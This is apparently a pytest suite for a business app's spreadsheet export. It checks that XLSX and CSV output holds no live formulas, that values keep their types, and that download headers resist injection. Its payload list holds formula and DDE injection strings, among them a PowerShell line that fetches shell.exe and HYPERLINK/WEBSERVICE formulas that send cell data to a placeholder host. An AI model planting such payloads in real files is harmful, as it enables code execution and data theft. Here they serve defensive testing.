"""Lists as files: nothing in them is alive, numbers and days are what they were, and they read in again."""

import csv
import io
import itertools
import json
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from operator import itemgetter

import openpyxl
import pytest

from bizdept.web import sheets
from bizdept.web.columns import Column
from bizdept.web.tables import read_table
from tests.house.code import ROOT

ATTACKS = ROOT.parent / "shared" / "data" / "attack" / "text"
COLUMNS = [
    Column("name", "企业名称", itemgetter(0)),
    Column("amount", "合同金额", itemgetter(1), kind="money"),
    Column("day", "签订日期", itemgetter(2), kind="day"),
    Column("seen", "更新时间", itemgetter(3), kind="moment"),
]
ROW = ("恒裕科技", Decimal("-1286000.50"), date(2026, 11, 23), datetime(2026, 11, 23, 4, 5, tzinfo=UTC))
BODIES = [
    "1+1", "SUM(1+9)*cmd|' /C calc'!A0", "cmd|'/C powershell IEX(wget x/shell.exe)'!A0", '"a"&"b"', "A1:A9",
    'HYPERLINK("http://x.example/?"&A1,"here")', "IMPORTXML(CONCAT(A1),1)", "1+2\";=1+2", "-1+cmd|'x'!A0",
    "WEBSERVICE(A1)", "DDE(\"cmd\";\"/C calc\";\"x\")", "{=1}", "0x10", "RTD(\"x\",,1)",
]  # fmt: skip
PAYLOADS = [start + body for start, body in itertools.product(["=", "+", "-", "@", "\t=", "\r=", " =", "＝"], BODIES)]


def payloads() -> list[str]:
    if not ATTACKS.is_dir():
        return PAYLOADS
    listed = (ATTACKS / "csv_injection_payloadbox.txt").read_text().splitlines()
    naughty = json.loads((ATTACKS / "blns.json").read_text())
    return PAYLOADS + [text for text in listed + naughty if text]


def test_no_cell_of_a_workbook_is_alive():
    texts = payloads()
    assert len(texts) >= 100
    columns = [Column("text", "=1+1", itemgetter(0)), Column("more", "x", itemgetter(0), kind="link")]
    content = sheets.xlsx("=1+1", columns, [(text,) for text in texts])
    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]
    assert len(cells) == 2 * (len(texts) + 1)
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        xml = package.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<hyperlink" not in xml


def test_no_cell_of_a_csv_is_alive():
    texts = payloads()
    content = sheets.csv([Column("text", "=1+1", itemgetter(0))], [(text,) for text in texts])
    cells = [row[0] for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) if row]
    assert len(cells) == len(texts) + 1
    alive = [cell for cell in cells if cell.lstrip(" ")[:1] in {*"=+-@\t\r\n＝"} - {""}]
    assert [cell for cell in alive if not sheets.NUMBER.fullmatch(cell)] == []


@pytest.mark.parametrize("number", [-5, Decimal("-0.10"), "-5", "+86", "-1.5"])
def test_numbers_keep_their_sign_without_an_apostrophe(number):
    content = sheets.csv([Column("n", "n", itemgetter(0))], [(number,)])
    assert content.decode("utf-8-sig").splitlines()[1] == str(number)


def test_numbers_are_numbers_and_days_are_days():
    sheet = openpyxl.load_workbook(io.BytesIO(sheets.xlsx("客户", COLUMNS, [ROW]))).active
    assert [cell.value for cell in sheet[2]] == [
        "恒裕科技", -1286000.5, datetime(2026, 11, 23), datetime(2026, 11, 23, 12, 5)
    ]  # fmt: skip
    assert [cell.number_format for cell in sheet[2]][1:3] == ["#,##0.00", "yyyy-mm-dd"]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"


def test_what_excel_can_not_hold_becomes_text():
    values = [
        (10**15,),
        (Decimal("NaN"),),
        (date(1899, 1, 1),),
        ("x\0\x0by",),
        ("\ud800",),
        ("长" * 40_000,),
        (None,),
        (("a", "b"),),
    ]
    content = sheets.xlsx("x", [Column("v", "v", itemgetter(0))], values)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    read = [sheet.cell(line, 1).value for line in range(2, 10)]
    assert read == ["1" + "0" * 15, "NaN", "1899-01-01", "xy", None, "长" * 32767, None, "a"]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_what_was_written_reads_in_again(tmp_path, kind):
    rows = [ROW, ("=1+1", Decimal(0), date(2025, 1, 2), None), ("+86 21", Decimal("0.01"), None, None)]
    path = tmp_path / f"list.{kind}"
    path.write_bytes(sheets.xlsx("客户", COLUMNS, rows) if kind == "xlsx" else sheets.csv(COLUMNS, rows))
    sheet = read_table(path).lists()[0]
    assert sheet.headings(0) == [column.label for column in COLUMNS]
    read = [row[:1] + [Decimal(row[1])] + row[2:] for _, row in sheet.records(0)]
    assert read == [
        ["恒裕科技", Decimal("-1286000.50"), "2026-11-23", "2026-11-23 12:05"],
        ["=1+1", Decimal(0), "2025-01-02", ""],
        ["+86 21", Decimal("0.01"), "", ""],
    ]


@pytest.mark.parametrize("title", ["a/b:c*?[x]", "'quoted'", "", "很" * 50, "\0"])
def test_any_title_makes_a_sheet(title):
    sheet = openpyxl.load_workbook(io.BytesIO(sheets.xlsx(title, COLUMNS, []))).active
    assert 0 < len(sheet.title) <= 31


def test_a_downloads_name_can_not_break_the_header():
    header = sheets.disposition('客户\r\nX: "1".xlsx')
    assert "\n" not in header and "\r" not in header and header.isascii()
    assert header.count('"') == 2
    assert "%E5%AE%A2%E6%88%B7" in header
